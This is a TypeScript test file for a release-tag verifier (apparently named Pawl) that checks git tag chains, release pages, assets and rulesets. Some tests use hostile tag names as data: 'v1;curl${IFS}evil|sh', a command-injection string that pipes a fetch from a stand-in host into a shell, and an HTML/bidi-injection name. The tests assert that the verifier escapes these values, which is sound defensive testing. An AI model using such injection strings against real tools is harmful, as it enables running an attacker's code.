// What verify says of tags and of a forge, on facts that are written by hand.
import { readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import * as v from 'valibot';
import { describe, expect, expectTypeOf, it } from 'vitest';
import { formatAssignmentMessage } from '../../src/core/assignment.ts';
import type { ForgeRelease, TagRuleset } from '../../src/core/forge-facts.ts';
import type { RegistryTag } from '../../src/core/registry-tag.ts';
import { formatReleaseMessage } from '../../src/core/release-message.ts';
import type {
  Check,
  ExpectedFile,
  Finding,
  Recomputation,
  Verification,
  VerifiedForge,
} from '../../src/core/verification.ts';
import { verificationSchema } from '../../src/core/verification-schema.ts';
import { verify } from '../../src/core/verify.ts';
import { escapePlain } from '../../src/reports/escape.ts';
import {
  renderVerification,
  renderVerificationJson,
  renderVerificationOutputs,
  renderVerificationSummary,
} from '../../src/reports/verification.ts';
import { assignments, ids, records } from './arbitrary-records.ts';
import {
  annotated,
  assignmentOf,
  day,
  lightweight,
  MODEL,
  objectId,
  pinOf,
  recordOf,
  releaseTag,
} from './registry-tags.ts';

const NAMING = { model: MODEL, template: 'v{version}', atRoot: true };

/** Two releases with their entries into production. */
const V1 = releaseTag(recordOf('1.0.0'), day('2023-06-01'));
const FIRST = assignmentOf(
  { number: 1, version: pinOf(V1, '1.0.0'), newest: pinOf(V1, '1.0.0') },
  day('2023-06-01'),
  V1.commit,
);
const V2 = releaseTag(
  recordOf('1.1.0', { previous: { tag: V1.name, object: V1.object } }),
  day('2023-08-15'),
);
const SECOND = assignmentOf(
  {
    number: 2,
    version: pinOf(V2, '1.1.0'),
    newest: pinOf(V2, '1.1.0'),
    previous: { tag: FIRST.name, object: FIRST.object },
  },
  day('2023-08-15'),
  V2.commit,
);
const CHAIN = [V1, FIRST, V2, SECOND];

function told(
  tags: readonly RegistryTag[],
  forge?: VerifiedForge,
  recomputed: readonly Recomputation[] = [],
) {
  return verify({
    repository: 'octo-org/nfl',
    models: [{ naming: NAMING, tags, recomputed, branch: 'main' }],
    tags,
    ...(forge === undefined ? {} : { forge }),
  });
}

function messagesOf({ models, problems }: Verification): readonly string[] {
  return [...models.flatMap((model) => model.problems), ...problems].map(
    ({ severity, rule, message }: Finding) => `${severity} ${rule}: ${message}`,
  );
}

function statusOf({ checks }: Verification, check: Check['check']): Check['status'] | undefined {
  return checks.find((one) => one.check === check)?.status;
}

describe('tags', () => {
  it('that are whole are no problem, and offline nothing is known of the forge', () => {
    const verification = told(CHAIN);
    expect(messagesOf(verification)).toEqual([]);
    expect(verification).toMatchObject({
      verdict: 'pass',
      models: [{ model: MODEL, releases: 2, assignments: 2 }],
    });
    expect(
      verification.checks.filter(({ status }) => status === 'unknown').map(({ check }) => check),
    ).toEqual(['releases', 'drafts', 'assets', 'rulesets', 'immutable-releases']);
  });

  it('the one witness that disagrees with all others is the one that was forged', () => {
    const third = assignmentOf(
      {
        number: 3,
        action: 'promote',
        version: { ...pinOf(V1, '1.0.0'), object: objectId('elsewhere') },
        newest: pinOf(V2, '1.1.0'),
        previous: { tag: SECOND.name, object: SECOND.object },
      },
      day('2023-09-01'),
      V1.commit,
    );
    expect(messagesOf(told([...CHAIN, third]))).toEqual([
      `error assignments: ${third.name} names v1.0.0 by another object than it has and v1.1.0 and ${FIRST.name} saw`,
    ]);
  });

  it('a forged assignment accuses nobody', () => {
    const forged = assignmentOf(
      {
        number: 9,
        version: { version: '7.0.0', tag: 'v7.0.0', object: objectId('7') },
        newest: { tag: 'v1.1.0', object: objectId('other') },
        previous: { tag: SECOND.name, object: objectId('other') },
      },
      day('2024-01-01'),
      V2.commit,
    );
    expect(messagesOf(told([...CHAIN, forged]))).toEqual([
      `error assignments: ${forged.name} follows on ${SECOND.name}: numbers were left out`,
    ]);
  });

  it('a forged assignment excuses no deletion', () => {
    const forged = assignmentOf(
      {
        number: 9,
        action: 'delete',
        version: pinOf(V2, '1.1.0'),
        deleted: pinOf(V1, '1.0.0'),
        previous: { tag: SECOND.name, object: SECOND.object },
      },
      day('2024-01-01'),
      V2.commit,
    );
    expect(messagesOf(told([FIRST, V2, SECOND, forged]))).toEqual([
      `error chain: v1.0.0 was deleted: v1.1.0 and ${FIRST.name} saw it as ${V1.object}`,
      `error assignments: ${forged.name} follows on ${SECOND.name}: numbers were left out`,
    ]);
  });

  it('a release between two others that follows on an old tag is not part of the chain', () => {
    const old = lightweight('v0.9.0', objectId('old'));
    const between = releaseTag(recordOf('1.0.5', { previous: { tag: old.name, object: old.object } }));
    const third = assignmentOf(
      {
        number: 3,
        action: 'promote',
        version: pinOf(between, '1.0.5'),
        newest: pinOf(V2, '1.1.0'),
        previous: { tag: SECOND.name, object: SECOND.object },
      },
      day('2023-09-01'),
      between.commit,
    );
    expect(messagesOf(told([...CHAIN, old, between, third]))).toEqual([
      'error chain: v1.0.5 is not part of the chain: the release after it follows on v1.0.0',
    ]);
  });

  it('a message that names a hostile tag gets no command to paste', () => {
    const hostile = 'v1;curl${IFS}evil|sh';
    const third = assignmentOf(
      {
        number: 3,
        version: pinOf(V2, '1.1.0'),
        newest: { tag: hostile, object: objectId('gone') },
        previous: { tag: SECOND.name, object: SECOND.object },
      },
      day('2023-09-01'),
      V2.commit,
    );
    const [problem] = told([...CHAIN, third]).models[0]?.problems ?? [];
    expect(problem?.message).toContain(`${hostile} was deleted`);
    expect(problem?.help).not.toContain('git ');
    const restore = told([FIRST, V2, SECOND]).models[0]?.problems[0]?.help;
    expect(restore).toBe(
      `Put it back, from a clone that has it: git push --force origin '${V1.object}:refs/tags/v1.0.0'`,
    );
  });

  it('a release into a stage that a rollback held was not made by Pawl', () => {
    const back = assignmentOf(
      {
        number: 3,
        action: 'rollback',
        hold: true,
        version: pinOf(V1, '1.0.0'),
        newest: pinOf(V2, '1.1.0'),
        previous: { tag: SECOND.name, object: SECOND.object },
      },
      day('2023-09-01'),
      V1.commit,
    );
    const v3 = releaseTag(recordOf('1.2.0', { previous: { tag: V2.name, object: V2.object } }));
    const held = [...CHAIN, back, v3];
    expect(messagesOf(told(held)), 'it comes alone').toEqual([]);
    const pushed = lightweight('v1.3.0', v3.commit);
    expect(messagesOf(told([...held, pushed])), 'a request is one, whatever is held').toEqual([
      'error requests: v1.3.0 was pushed by hand and never accepted: it is no release',
    ]);
    const entry = assignmentOf(
      {
        number: 4,
        version: pinOf(v3, '1.2.0'),
        newest: pinOf(v3, '1.2.0'),
        previous: { tag: back.name, object: back.object },
      },
      day('2024-01-10'),
      v3.commit,
    );
    expect(messagesOf(told([...held, entry]))).toEqual([
      `error assignments: ${entry.name} released into a stage that a rollback held`,
    ]);
  });

  it('a model that was called otherwise under the same tags keeps its releases', () => {
    const other = { ...NAMING, model: 'renamed' };
    const facts = { naming: other, tags: CHAIN, recomputed: [], branch: 'main' };
    const verification = verify({ repository: 'octo-org/nfl', models: [facts], tags: CHAIN });
    expect(messagesOf(verification)).toEqual([]);
  });

  it('of GTO are history', () => {
    const tags = [
      lightweight('v0.1.0', objectId('a')),
      annotated(`${MODEL}#production#1`, objectId('a'), 'Assigning stage', day('2023-01-01')),
      lightweight(`${MODEL}#staging`, objectId('a')),
    ];
    expect(messagesOf(told(tags))).toEqual([]);
    const later = annotated(`${MODEL}#production`, V1.commit, 'Assigning stage', day('2024-02-01'));
    expect(messagesOf(told([...CHAIN, later])), 'in a form without a number').toEqual([]);
    expect(
      messagesOf(told([...tags, ...CHAIN.filter(({ name }) => !name.includes('#'))])),
      'but not after',
    ).toEqual([
      'error chain: no assignment names v1.0.0 and v1.1.0: it is gone, or Pawl did not make the release',
    ]);
  });
});

describe('records', () => {
  const same = (record = recordOf('1.1.0')): Recomputation => ({
    tag: record.tag,
    content: record,
    policyDigest: record.policy.digest,
    policyChanges: [],
    onBranch: true,
    isCut: false,
  });

  it('a policy that changed is a notice and no defect', () => {
    const verification = told(CHAIN, undefined, [
      { ...same(), policyChanges: ['gate.tolerance: 0.5pp → 5pp'] },
    ]);
    expect(messagesOf(verification)).toEqual([
      'notice records: the policy changed with v1.1.0: gate.tolerance: 0.5pp → 5pp',
    ]);
    expect(verification.verdict).toBe('pass');
  });

  it.each([
    [
      'of which nothing can be computed',
      { missing: 'it is gone' },
      'error records: the record of v1.1.0 cannot',
    ],
    [
      'without its policy',
      { policyDigest: 'sha256:00' },
      'error records: the record of v1.1.0 is not what its',
    ],
    [
      'of a commit off the branch',
      { onBranch: false },
      'error records: the commit of v1.1.0 is not on main any',
    ],
  ] as const)('one %s is a defect', (_, change, message) => {
    const { content: _content, ...rest } = same();
    const again = 'missing' in change ? { ...rest, ...change } : { ...same(), ...change };
    const verification = told(CHAIN, undefined, [again]);
    expect(messagesOf(verification)).toEqual([expect.stringContaining(message)]);
    expect(verification.verdict).toBe('fail');
  });

  it.each([
    ['of which a short clone has nothing', { missing: 'it is not here', isCut: true }],
    ['whose place a short clone cannot tell', { onBranch: 'unknown', isCut: true }],
  ] as const)('one %s is unknown, and no pass', (_, change) => {
    const { content: _content, ...rest } = same();
    const again = 'missing' in change ? { ...rest, ...change } : { ...same(), ...change };
    const verification = told(CHAIN, undefined, [again]);
    expect(verification.verdict).toBe('unknown');
    expect(statusOf(verification, 'records')).toBe('unknown');
    expect(messagesOf(verification)).toEqual([expect.stringMatching(/^warning records: /)]);
  });
});

const FILES = ['record.json', 'metrics.md'] as const;
const digestOf = (tag: string, name: string) => `sha256:${objectId(`${tag} ${name}`)}`;
const PAGES: readonly ForgeRelease[] = ['v1.1.0', 'v1.0.0'].map((tag, id) => page(tag, id));
const EXPECTED: readonly ExpectedFile[] = ['v1.1.0', 'v1.0.0'].flatMap((tag) =>
  FILES.map((name) => ({ tag, name, digest: digestOf(tag, name), isRendered: name === 'metrics.md' })),
);
const PROTECTED: TagRuleset = {
  name: 'tags',
  include: ['~ALL'],
  exclude: [],
  forbids: ['update', 'deletion'],
};
const FORGE: VerifiedForge = {
  releases: PAGES,
  drafts: true,
  rulesets: [PROTECTED],
  immutableReleases: true,
  expected: EXPECTED,
};

function page(tag: string, id: number, change: Partial<ForgeRelease> = {}): ForgeRelease {
  const assets = FILES.map((name) => ({ name, state: 'uploaded' as const, digest: digestOf(tag, name) }));
  return { id, tag, draft: false, immutable: true, assets, ...change };
}

const withAssets = (change: (assets: ForgeRelease['assets']) => ForgeRelease['assets']) => ({
  releases: PAGES.map((one) => (one.tag === 'v1.1.0' ? { ...one, assets: change(one.assets) } : one)),
});

describe('the forge', () => {
  it('that shows what the tags say is no problem', () => {
    const verification = told(CHAIN, FORGE);
    expect(messagesOf(verification)).toEqual([]);
    expect(verification.checks.map(({ status }) => status)).toEqual(Array(9).fill('pass'));
  });

  it.each<[name: string, change: Partial<VerifiedForge>, check: Check['check'], messages: readonly string[]]>(
    [
      [
        'lacks a page',
        { releases: PAGES.slice(1) },
        'releases',
        ['error releases: v1.1.0 has no release page'],
      ],
      [
        'has a draft left beside the page',
        { releases: [...PAGES, page('v1.1.0', 9, { draft: true })] },
        'drafts',
        ['error drafts: there is a draft left of the release page of v1.1.0'],
      ],
      [
        'has a draft left and no page',
        { releases: [page('v1.1.0', 9, { draft: true, assets: [] }), ...PAGES.slice(1)] },
        'drafts',
        ['error drafts: there is a draft left of the release page of v1.1.0'],
      ],
      [
        'has the page of a release that git does not know',
        { releases: [page('v1.2.0', 9), ...PAGES] },
        'releases',
        [
          'error releases: v1.2.0 was deleted: its release page is still there, and no tag of git speaks of it',
        ],
      ],
      [
        'has the page of a deleted tag as a draft',
        { releases: [page('v1.2.0', 9, { draft: true }), ...PAGES] },
        'releases',
        [
          'error releases: v1.2.0 was deleted: its release page is a draft now, and no tag of git speaks of it',
        ],
      ],
      [
        'lacks a file',
        withAssets((assets) => assets.slice(0, 1)),
        'assets',
        ['error assets: the release page of v1.1.0 lacks metrics.md'],
      ],
      [
        'has a file that was never uploaded whole',
        withAssets((assets) => assets.map((one) => ({ ...one, state: 'open' }))),
        'assets',
        ['error assets: the release page of v1.1.0 lacks record.json and metrics.md'],
      ],
      [
        'has another record.json',
        withAssets(([, other]) => [
          { name: 'record.json', state: 'uploaded', digest: 'sha256:00' },
          ...(other === undefined ? [] : [other]),
        ]),
        'assets',
        [
          'error assets: record.json on the release page of v1.1.0 does not fit the tag: tag or page was changed after the release',
        ],
      ],
      [
        'has another metrics.md, which also another version of Pawl may have written',
        withAssets(([record]) => [
          ...(record === undefined ? [] : [record]),
          { name: 'metrics.md', state: 'uploaded', digest: 'sha256:00' },
        ]),
        'assets',
        ['warning assets: metrics.md on the release page of v1.1.0 is not what this version of Pawl writes'],
      ],
      [
        'does not protect tags from being moved',
        { rulesets: [{ ...PROTECTED, forbids: ['deletion'] }] },
        'rulesets',
        [
          `warning rulesets: no ruleset protects v1.1.0, v1.0.0, ${FIRST.name} and 1 more from being moved and deleted`,
        ],
      ],
      [
        'protects versions and no assignments',
        { rulesets: [{ ...PROTECTED, include: ['refs/tags/v*'] }] },
        'rulesets',
        [
          `warning rulesets: no ruleset protects ${FIRST.name} and ${SECOND.name} from being moved and deleted`,
        ],
      ],
      [
        'lets releases be changed',
        { immutableReleases: false },
        'immutable-releases',
        ['warning immutable-releases: releases of this repository can be changed after they were published'],
      ],
    ],
  )('that %s says so', (_, change, check, messages) => {
    const verification = told(CHAIN, { ...FORGE, ...change });
    expect(messagesOf(verification)).toEqual(messages);
    expect(statusOf(verification, check)).toBe('fail');
    expect(verification.verdict).toBe(messages.some((one) => one.startsWith('error')) ? 'fail' : 'pass');
    const others = verification.checks.filter((one) => one.check !== check);
    expect(others.filter(({ status }) => status !== 'pass')).toEqual([]);
  });

  it.each<[name: string, change: Partial<VerifiedForge>, checks: readonly Check['check'][]]>([
    ['releases', { releases: 'unknown' }, ['releases', 'drafts', 'assets']],
    ['drafts', { drafts: 'unknown' }, ['drafts']],
    ['rulesets', { rulesets: 'unknown' }, ['rulesets']],
    ['immutable releases', { immutableReleases: 'unknown' }, ['immutable-releases']],
    ['digests', withAssets((assets) => assets.map(({ name, state }) => ({ name, state }))), ['assets']],
  ])('that does not tell its %s is unknown there, and no pass', (_, change, checks) => {
    const verification = told(CHAIN, { ...FORGE, ...change });
    const unknown = verification.checks.filter(({ status }) => status !== 'pass');
    expect(unknown).toEqual(checks.map((check) => ({ check, status: 'unknown' })));
    expect(verification.verdict).toBe('pass');
  });

  it('pages that are older than the setting are told, and what others draft is left alone', () => {
    const releases = [
      page('cli-v3', 7, { draft: true }),
      page('v9.0.0', 8, { draft: true, assets: [] }),
      ...PAGES.map((one) => ({ ...one, immutable: false })),
    ];
    const verification = told(CHAIN, { ...FORGE, releases });
    expect(messagesOf(verification)).toEqual([
      'notice drafts: there is a draft for v9.0.0, and no such tag',
      'notice immutable-releases: the release pages of v1.0.0 and v1.1.0 are older than the setting, and can be changed',
    ]);
    expect(verification.checks.map(({ status }) => status)).toEqual(Array(9).fill('pass'));
  });

  it('the page of a release whose deletion is recorded is no defect', () => {
    const third = assignmentOf(
      {
        number: 3,
        action: 'delete',
        hold: true,
        version: pinOf(V1, '1.0.0'),
        deleted: pinOf(V2, '1.1.0'),
        newest: pinOf(V1, '1.0.0'),
        previous: { tag: SECOND.name, object: SECOND.object },
      },
      day('2023-09-01'),
      V1.commit,
    );
    const tags = [V1, FIRST, SECOND, third];
    const releases = PAGES.map((one) => ({ ...one, draft: one.tag === 'v1.1.0' }));
    expect(messagesOf(told(tags, { ...FORGE, releases }))).toEqual([
      `notice chain: v1.1.0 was deleted, as ${third.name} records: released (by ada)`,
    ]);
  });

  it('a deletion is told by the assignment that records it, though nothing else names the tag', () => {
    const third = assignmentOf(
      {
        number: 3,
        action: 'delete',
        hold: true,
        version: pinOf(V2, '1.1.0'),
        deleted: { version: '1.2.0', tag: 'v1.2.0' },
        newest: pinOf(V2, '1.1.0'),
        previous: { tag: SECOND.name, object: SECOND.object },
        reason: 'the tag v1.2.0 was deleted',
      },
      day('2023-09-01'),
      V2.commit,
    );
    const releases = [page('v1.2.0', 9, { draft: true }), ...PAGES];
    expect(messagesOf(told([...CHAIN, third], { ...FORGE, releases }))).toEqual([
      `notice chain: v1.2.0 was deleted, as ${third.name} records: the tag v1.2.0 was deleted (by ada)`,
    ]);
  });

  it('many files that do not fit are one finding', () => {
    const releases = PAGES.map((one) => ({
      ...one,
      assets: one.assets.map((file) => ({ ...file, digest: 'sha256:00' })),
    }));
    expect(messagesOf(told(CHAIN, { ...FORGE, releases }))).toEqual([
      'error assets: record.json on the release page of v1.0.0 and v1.1.0 does not fit the tag: tag or page was changed after the release',
      'warning assets: metrics.md on the release page of v1.0.0 and v1.1.0 is not what this version of Pawl writes',
    ]);
  });
});

/** Anything that somebody could push: names, messages, forged records and assignments among honest ones. */
const names = fc.oneof(
  fc.constantFrom('v1.0.0', 'v1.1.0', 'v2.0.0', FIRST.name, SECOND.name, `${MODEL}#production!#3`),
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc.nat(20).map((number) => `${MODEL}#production#${number}`),
  fc.tuple(fc.nat(3), fc.nat(3)).map(([minor, patch]) => `v1.${minor}.${patch}`),
);
const messages = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 80 }),
  records.map((record) => formatReleaseMessage({ ...record, model: MODEL })),
  fc.tuple(records, names).map(([record, tag]) => `x\n\nRecord: ${JSON.stringify({ ...record, tag })}\n`),
  assignments.map((one) => formatAssignmentMessage({ ...one, model: MODEL, stage: 'production' })),
  fc.constantFrom(...CHAIN.map(({ annotation }) => annotation?.message ?? '')),
  fc.constant('x\n\nRecord: {"schema":"pawl.record/7"}\n'),
  fc.constant('x\n\nRecord: {"title":"\\ud800"}\n'),
);
const tags: fc.Arbitrary<RegistryTag> = fc
  .record({ name: names, object: ids, commit: ids, time: fc.integer(), message: fc.option(messages) })
  .map(({ name, object, commit, time, message }) =>
    message === null
      ? { name, object: commit, commit }
      : { name, object, commit, annotation: { tagger: 'x', time, message, signed: false } },
  );

/** What a terminal, a runner or a page would obey. */
const HARMFUL = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]|##\[/u;

it('nothing that can be pushed makes verify throw, and everything that it says is harmless', () => {
  fc.assert(
    fc.property(fc.array(tags, { maxLength: 12 }), fc.boolean(), (pushed, isBroken) => {
      const all = [
        ...new Map([...(isBroken ? [] : CHAIN), ...pushed].map((tag) => [tag.name, tag])).values(),
      ];
      const verification = told(all, FORGE);
      expect(JSON.stringify(told(all.toReversed(), FORGE).verdict)).toBe(
        JSON.stringify(verification.verdict),
      );
      const written = [
        renderVerification(verification, { colour: false, width: 80 }),
        renderVerificationJson(verification),
        renderVerificationSummary(verification),
        ...Object.values(renderVerificationOutputs(verification)),
      ];
      for (const text of written) expect(text).not.toMatch(HARMFUL);
    }),
    { numRuns: 500 },
  );
});

/** The same type with everything read-only, so that two spellings of one shape are equal. */
type Frozen<T> = T extends string | number | boolean
  ? T
  : T extends readonly (infer Item)[]
    ? readonly Frozen<Item>[]
    : { readonly [Key in keyof T]: Frozen<T[Key]> };

it('the published schema is what verify gives', () => {
  expectTypeOf<Frozen<v.InferOutput<typeof verificationSchema>>>().toEqualTypeOf<Frozen<Verification>>();
  const forge = { ...FORGE, releases: PAGES.slice(1), immutableReleases: false };
  for (const verification of [told(CHAIN), told(CHAIN.slice(1), forge)]) {
    const json: unknown = JSON.parse(renderVerificationJson(verification));
    expect(v.parse(verificationSchema, json)).toEqual(json);
  }
});

const root = new URL('../../', import.meta.url);
const readText = (path: string) => readFileSync(new URL(path, root), 'utf8');
const sources = readdirSync(new URL('src/core/', root))
  .filter((name) => name.startsWith('verify'))
  .map((name) => readText(`src/core/${name}`))
  .join('\n');
const rows = readText('docs/verify.md')
  .split('\n')
  .filter((line) => /^\| `/.test(line) && line.split('|').length === 5);
const documented = rows.flatMap((row) =>
  [...(row.split('|')[1] ?? '').matchAll(/`([^`]+)`/g)].map(([, text]) => text ?? ''),
);

it.each([...new Set(documented)])('the page says what verify says: %s', (text) => {
  // A part of a sentence may stand in another piece of the source.
  const parts = text.trim().split(/(?<=was) (?=made)/);
  for (const part of parts) expect(sources).toContain(part.trim());
});

it('a hostile name is text in a terminal and in a summary', () => {
  const hostile = '`v1`<img/src=x>@ada\u202e';
  const third = assignmentOf(
    {
      number: 3,
      version: pinOf(V2, '1.1.0'),
      newest: { tag: hostile, object: objectId('gone') },
      previous: { tag: SECOND.name, object: SECOND.object },
    },
    day('2023-09-01'),
    V2.commit,
  );
  const verification = told([...CHAIN, third]);
  expect(renderVerification(verification, { colour: false, width: 500 })).toContain(escapePlain(hostile));
  expect(renderVerificationSummary(verification)).not.toMatch(/`|<img|[^>]@ada/);
});
